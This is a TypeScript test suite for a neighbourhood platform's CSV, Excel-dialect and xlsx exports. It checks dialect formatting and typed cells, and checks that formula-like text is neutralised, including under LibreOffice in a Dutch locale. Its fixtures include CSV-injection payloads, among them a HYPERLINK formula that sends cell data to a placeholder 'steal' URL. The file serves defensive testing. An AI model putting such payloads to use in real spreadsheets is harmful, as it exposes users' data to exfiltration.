import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { startPlatform, type RunningPlatform } from '../../../test/platform';
import { SPIJKERKWARTIER, tokenOf } from '../../../test/people';
import { EXPORT_TABLES } from './tables';

/*
 * The exports as a spreadsheet user gets them: the RFC 4180 CSV byte for byte as it always was; the excel
 * dialect (`;`, BOM, decimal comma, text quoted); every table as an xlsx with typed cells and a sheet of its
 * fields; and a resident's wish titled like a formula written as text everywhere, while negative amounts
 * stay numbers.
 */

/** The CSV the exports wrote by hand before csv-stringify: the default dialect must not change under clients. */
function handWrittenCsv(header: string[], objects: Record<string, unknown>[]): string {
  const cell = (value: unknown) => {
    if (value === null || value === undefined) return '';
    const text = typeof value === 'object' ? JSON.stringify(value) : String(value);
    return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
  };
  return [header, ...objects.map((o) => header.map((h) => o[h]))].map((row) => row.map(cell).join(',') + '\r\n').join('');
}

/** Splits one CSV record of the excel dialect, keeping whether each cell was quoted. */
function excelRecord(line: string): { text: string; quoted: boolean }[] {
  const cells: { text: string; quoted: boolean }[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let text = '';
      i++;
      for (; i < line.length; i++) {
        if (line[i] === '"' && line[i + 1] === '"') {
          text += '"';
          i++;
        } else if (line[i] === '"') break;
        else text += line[i];
      }
      cells.push({ text, quoted: true });
      i += 2;
    } else {
      const end = line.indexOf(';', i);
      cells.push({ text: line.slice(i, end < 0 ? line.length : end), quoted: false });
      i = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}

interface OdsCell {
  type: string | null;
  value: string | null;
  text: string;
  formula: string | null;
}

/** The sheets of a flat OpenDocument spreadsheet (what `soffice --convert-to fods` writes): name → rows of cells. */
function flatOdsSheets(xml: string): Map<string, OdsCell[][]> {
  const attributes = (text: string) => new Map([...text.matchAll(/([\w:-]+)="([^"]*)"/g)].map((m) => [m[1], m[2]]));
  const unescape = (text: string) =>
    text
      .replace(/<text:s\/>/g, ' ')
      .replace(/<[^>]+>/g, '')
      .replace(/&apos;/g, "'")
      .replace(/&quot;/g, '"')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&amp;/g, '&');
  const sheets = new Map<string, OdsCell[][]>();
  for (const table of xml.matchAll(/<table:table table:name="([^"]*)"[^>]*>([\s\S]*?)<\/table:table>/g)) {
    const rows: OdsCell[][] = [];
    for (const row of table[2].matchAll(/<table:table-row[^>]*?(?:\/>|>([\s\S]*?)<\/table:table-row>)/g)) {
      const cells: OdsCell[] = [];
      for (const cell of (row[1] ?? '').matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
        const a = attributes(cell[1]);
        const one: OdsCell = { type: a.get('office:value-type') ?? null, value: a.get('office:value') ?? a.get('office:date-value') ?? a.get('office:boolean-value') ?? null, text: [...(cell[2] ?? '').matchAll(/<text:p[^>]*>([\s\S]*?)<\/text:p>/g)].map((p) => unescape(p[1])).join('\n'), formula: a.get('table:formula') ?? null };
        for (let n = Number(a.get('table:number-columns-repeated') ?? 1); n > 0; n--) cells.push(one);
      }
      if (cells.some((c) => c.type !== null)) rows.push(cells);
    }
    sheets.set(table[1], rows);
  }
  return sheets;
}

const FORMULA_TITLES = ['=1+1', '=HYPERLINK("https://example.org/steal?d="&A1,"klik")', '+31 6 1234', '-Nee-', '@SUM(A1)', "'t Spijker", '＝1+1'];

describe('exports for spreadsheets', () => {
  let platform: RunningPlatform;
  const get = (path: string, headers: Record<string, string> = {}) => fetch(new URL(`/export/v1/neighbourhoods/spijkerkwartier/${path}`, platform.gatewayUrl), { headers });
  beforeAll(async () => {
    platform = await startPlatform();
    const token = await tokenOf(platform, 'Penningmeester Pieter', ['resident'], SPIJKERKWARTIER);
    for (const title of FORMULA_TITLES) {
      const posted = await platform.query<any>(
        `mutation ($input: PostWishInput!) { postWish(input: $input) { __typename } }`,
        { input: { neighbourhoodId: SPIJKERKWARTIER, title, description: `=A1*2 ${title}`, themeIds: [] } },
        { token },
      );
      expect(posted.body.data?.postWish.__typename).toBe('PostWishSuccess');
    }
  });
  afterAll(() => platform.stop());

  it('writes the default CSV exactly as before for every table, but for text that would run as a formula', async () => {
    for (const table of EXPORT_TABLES) {
      const csv = await (await get(`${table.name}.csv`)).text();
      const objects = (await (await get(`${table.name}.jsonl`)).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
      const header = csv.slice(0, csv.indexOf('\r\n')).split(',');
      expect(csv.charCodeAt(0)).not.toBe(0xfeff);
      if (table.name === 'wishes') {
        // The only difference: the leading ' of the wishes titled like formulas.
        const neutralised = objects.map((o) => ({ ...o, title: /^['=+\-@\uFF1D]/.test(o.title) ? `'${o.title}` : o.title, description: /^=/.test(o.description) ? `'${o.description}` : o.description }));
        expect(csv).toBe(handWrittenCsv(header, neutralised));
      } else {
        expect({ table: table.name, csv }).toEqual({ table: table.name, csv: handWrittenCsv(header, objects) });
      }
    }
  });

  it('neutralises formulas in text cells of every format but JSON Lines, and leaves negative amounts numbers', async () => {
    const jsonl = (await (await get('wishes.jsonl')).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
    for (const title of FORMULA_TITLES) expect(jsonl.map((w) => w.title)).toContain(title);

    const csv = await (await get('wishes.csv')).text();
    expect(csv).toContain(`,'=1+1,`);
    expect(csv).toContain(`,"'=HYPERLINK(""https://example.org/steal?d=""&A1,""klik"")",`);
    expect(csv).toContain(`,'+31 6 1234,`);
    expect(csv).toContain(`,'-Nee-,`);
    expect(csv).toContain(`,'@SUM(A1),`);
    expect(csv).toContain(`,''t Spijker,`);
    expect(csv).toContain(`,'＝1+1,`);
    expect(csv).not.toMatch(/[,\n]=/);

    const excel = await (await get('wishes.csv?dialect=excel')).text();
    expect(excel).toContain(`;"'=1+1";"'=A1*2 =1+1";`);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await (await get('wishes.xlsx')).arrayBuffer()) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('wishes')!;
    const titleColumn = (sheet.getRow(1).values as unknown[]).indexOf('title');
    const titles: unknown[] = [];
    sheet.eachRow((row, n) => n > 1 && titles.push(row.getCell(titleColumn).value));
    expect(titles).toEqual(expect.arrayContaining(["'=1+1", "'@SUM(A1)", "''t Spijker"]));
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));

    // Credit lines are negative amounts: numbers, in both dialects, without a prefix.
    const lines = await (await get('ledger_lines.csv')).text();
    expect(lines).toMatch(/,-\d+\.\d{2},/);
    expect(lines).not.toMatch(/,'-\d/);
    const excelLines = await (await get('ledger_lines.csv?dialect=excel')).text();
    expect(excelLines).toMatch(/;-\d+,\d{2};/);
  });

  it('writes the excel dialect with a BOM, semicolons, decimal commas and every text cell quoted', async () => {
    const response = await get('sroi_analyses.csv?dialect=excel');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="spijkerkwartier-sroi_analyses-excel.csv"');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [headerLine, ...rows] = bytes.subarray(3).toString('utf8').split('\r\n').filter(Boolean);
    const header = headerLine.split(';');
    const pkg = (await (await get('datapackage.json')).json()) as any;
    const fields = pkg.resources.find((r: any) => r.name === 'sroi_analyses').schema.fields;
    expect(header).toEqual(fields.map((f: any) => f.name));
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      const cells = excelRecord(row);
      expect(cells).toHaveLength(header.length);
      cells.forEach((cell, i) => {
        const type = fields[i].type;
        if (cell.text === '') return;
        if (type === 'number' || type === 'integer') expect({ field: header[i], cell }).toEqual({ field: header[i], cell: { text: expect.stringMatching(/^-?\d+(,\d+)?$/), quoted: false } });
        if (type === 'string') expect({ field: header[i], quoted: cell.quoted }).toEqual({ field: header[i], quoted: true });
      });
      expect(cells[header.indexOf('discountRate')].text).toMatch(/^0,\d+$/);
    }
    // A taakveld is text: quoted, so an import that takes quoted fields as text keeps 5.7 (or 0500) as it is.
    const bids = await (await get('bids.csv?dialect=excel')).text();
    const bidHeader = excelRecord(bids.slice(1, bids.indexOf('\r\n')));
    const taakveld = bidHeader.findIndex((c) => c.text === 'taakveld');
    const values = bids.slice(bids.indexOf('\r\n') + 2).split('\r\n').filter(Boolean).map((l) => excelRecord(l)[taakveld]);
    expect(values.filter((v) => v.text !== '').every((v) => v.quoted)).toBe(true);
    expect(values.some((v) => v.text !== '')).toBe(true);
  });

  it('serves every table as an xlsx with typed cells and a sheet describing the fields', async () => {
    const pkg = (await (await get('datapackage.json')).json()) as any;
    for (const resource of pkg.resources) {
      const response = await get(`${resource.name}.xlsx`);
      expect({ table: resource.name, status: response.status }).toEqual({ table: resource.name, status: 200 });
      expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      const etag = response.headers.get('etag')!;
      expect(etag).toMatch(/^W\/"/);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
      expect(workbook.worksheets.map((w) => w.name)).toEqual([resource.name, 'fields']);
      const sheet = workbook.getWorksheet(resource.name)!;
      const names = resource.schema.fields.map((f: any) => f.name);
      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(names);
      const jsonl = (await (await get(`${resource.name}.jsonl`)).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
      expect(sheet.actualRowCount - 1).toBe(jsonl.length);
      jsonl.forEach((object, r) => {
        const row = sheet.getRow(r + 2);
        resource.schema.fields.forEach((field: any, i: number) => {
          const value = row.getCell(i + 1).value;
          const given = object[field.name];
          const where = { table: resource.name, field: field.name, given };
          if (given === null || given === '') return expect({ ...where, value }).toEqual({ ...where, value: null });
          switch (field.type) {
            case 'number':
            case 'integer':
              return expect({ ...where, value }).toEqual({ ...where, value: Number(given) });
            case 'boolean':
              return expect({ ...where, value }).toEqual({ ...where, value: given });
            case 'date':
            case 'datetime':
              expect(value).toBeInstanceOf(Date);
              return expect({ ...where, value: (value as Date).toISOString() }).toEqual({ ...where, value: field.type === 'date' ? `${given}T00:00:00.000Z` : given });
            default:
              expect(typeof value).toBe('string');
          }
        });
      });
      const fieldsSheet = workbook.getWorksheet('fields')!;
      expect((fieldsSheet.getRow(1).values as unknown[]).slice(1)).toEqual(['name', 'type', 'unit', 'description']);
      const described: unknown[][] = [];
      fieldsSheet.eachRow((row, n) => n > 1 && described.push((row.values as unknown[]).slice(1, 3)));
      expect(described).toEqual(resource.schema.fields.map((f: any) => [f.name, f.type]));
      expect((await get(`${resource.name}.xlsx`, { 'if-none-match': etag })).status).toBe(304);
    }
    const fields = new ExcelJS.Workbook();
    await fields.xlsx.load(Buffer.from(await (await get('ledger_lines.xlsx')).arrayBuffer()) as unknown as ArrayBuffer);
    const units = new Map<string, unknown>();
    fields.getWorksheet('fields')!.eachRow((row) => units.set(String(row.getCell(1).value), row.getCell(3).value));
    expect(units.get('amount_amount')).toBe("the row's amount_unit (EUR, or HOUR for volunteer hours)");
    expect(units.get('amount_minorUnits')).toBe("hundredths of the row's amount_unit (cents, or hundredths of an hour)");
  });

  it('streams a ledger table as xlsx cut at the checkpoint it names, like the CSV', async () => {
    const csv = await get('ledger_entries.csv');
    const size = csv.headers.get('ledger-checkpoint-size')!;
    const rows = (await csv.text()).split('\r\n').filter(Boolean).length - 1;
    const xlsx = await get(`ledger_entries.xlsx?size=${size}`);
    expect(xlsx.headers.get('ledger-checkpoint-size')).toBe(size);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer);
    expect(workbook.getWorksheet('ledger_entries')!.actualRowCount - 1).toBe(rows);
    expect((await get(`ledger_entries.xlsx?size=${size}`, { 'if-none-match': xlsx.headers.get('etag')! })).status).toBe(304);
  });

  it('refuses a dialect it does not know, or one given for another format', async () => {
    for (const [path, detail] of [
      ['wishes.csv?dialect=semicolon', /dialect must be rfc4180 or excel/],
      ['wishes.csv?dialect=excel&dialect=rfc4180', /Give dialect once/],
      ['wishes.jsonl?dialect=excel', /dialect applies to csv downloads only/],
      ['wishes.xlsx?dialect=excel', /dialect applies to csv downloads only/],
    ] as const) {
      const response = await get(path);
      expect({ path, status: response.status }).toEqual({ path, status: 400 });
      expect(response.headers.get('content-type')).toBe('application/problem+json; charset=utf-8');
      expect(((await response.json()) as any).detail).toMatch(detail);
    }
  });

  /*
   * LibreOffice Calc headless in a Dutch locale (LANG=nl_NL.UTF-8, and language 1043 with `;` and quoted
   * fields as text in the CSV import options, as a Dutch user chooses them) opens the excel CSV and the xlsx
   * of the tables with amounts, taakvelden and formula-like text; converted to flat ODS, every amount is a
   * number, every text cell text, and no cell a formula.
   */
  it('opens in LibreOffice in a Dutch locale with every amount a number, every text cell text and no formula', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'dbwe-soffice-'));
    try {
      const tables = ['sroi_analyses', 'ledger_lines', 'bids', 'wishes', 'projects'];
      const pkg = (await (await get('datapackage.json')).json()) as any;
      for (const table of tables) {
        await writeFile(join(folder, `${table}.csv`), Buffer.from(await (await get(`${table}.csv?dialect=excel`)).arrayBuffer()));
        await writeFile(join(folder, `${table}.xlsx`), Buffer.from(await (await get(`${table}.xlsx`)).arrayBuffer()));
      }
      const soffice = (args: string[]) =>
        promisify(execFile)('soffice', [`-env:UserInstallation=file://${folder}/profile`, '--headless', '--convert-to', 'fods', '--outdir', join(folder, 'out'), ...args], {
          env: { ...process.env, LANG: 'nl_NL.UTF-8', LC_ALL: 'nl_NL.UTF-8' },
          timeout: 180_000,
        });
      // 59 = ';', 34 = '"', 76 = UTF-8, from line 1, no column types, language 1043 (Dutch), quoted fields as text.
      await soffice(['--infilter=CSV:59,34,76,1,,1043,true,false', ...tables.map((t) => join(folder, `${t}.csv`))]);
      const fromCsv = new Map<string, OdsCell[][]>();
      for (const table of tables) fromCsv.set(table, flatOdsSheets(await readFile(join(folder, 'out', `${table}.fods`), 'utf8')).get(table)!);
      await soffice(tables.map((t) => join(folder, `${t}.xlsx`)));
      const fromXlsx = new Map<string, OdsCell[][]>();
      for (const table of tables) fromXlsx.set(table, flatOdsSheets(await readFile(join(folder, 'out', `${table}.fods`), 'utf8')).get(table)!);

      for (const [source, converted] of [['csv', fromCsv], ['xlsx', fromXlsx]] as const) {
        for (const table of tables) {
          const fields = pkg.resources.find((r: any) => r.name === table).schema.fields;
          const jsonl = (await (await get(`${table}.jsonl`)).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
          const [header, ...rows] = converted.get(table)!;
          expect(header.slice(0, fields.length).map((c) => c.text)).toEqual(fields.map((f: any) => f.name));
          expect({ source, table, rows: rows.length }).toEqual({ source, table, rows: jsonl.length });
          rows.forEach((row, r) => {
            fields.forEach((field: any, i: number) => {
              const cell = row[i] ?? { type: null, value: null, text: '', formula: null };
              const given = jsonl[r][field.name];
              const where = { source, table, field: field.name, given };
              // Calc has no boolean cells: it opens an xlsx boolean as the formula TRUE() or FALSE() (checked below).
              const booleanFormula = source === 'xlsx' && field.type === 'boolean' && /^of:=(TRUE|FALSE)\(\)$/.test(cell.formula ?? '');
              expect({ ...where, formula: booleanFormula ? null : cell.formula }).toEqual({ ...where, formula: null });
              if (given === null || given === '') return;
              if (field.type === 'number' || field.type === 'integer') {
                expect({ ...where, type: cell.type }).toEqual({ ...where, type: 'float' });
                // A spreadsheet keeps 15 significant digits (the exact columns have up to 40).
                const digits = (v: unknown) => Number(Number(v).toPrecision(15));
                expect({ ...where, value: digits(cell.value) }).toEqual({ ...where, value: digits(given) });
              }
              if (field.type === 'string') {
                expect({ ...where, type: cell.type }).toEqual({ ...where, type: 'string' });
                if (!/^['=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(given)) expect({ ...where, text: cell.text }).toEqual({ ...where, text: given });
                else expect({ ...where, text: cell.text }).toEqual({ ...where, text: `'${given}` });
              }
              if (source === 'xlsx' && (field.type === 'date' || field.type === 'datetime')) expect({ ...where, type: cell.type }).toEqual({ ...where, type: 'date' });
              if (source === 'xlsx' && field.type === 'boolean') expect({ ...where, formula: cell.formula }).toEqual({ ...where, formula: given ? 'of:=TRUE()' : 'of:=FALSE()' });
            });
          });
        }
      }
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  }, 600_000);
});
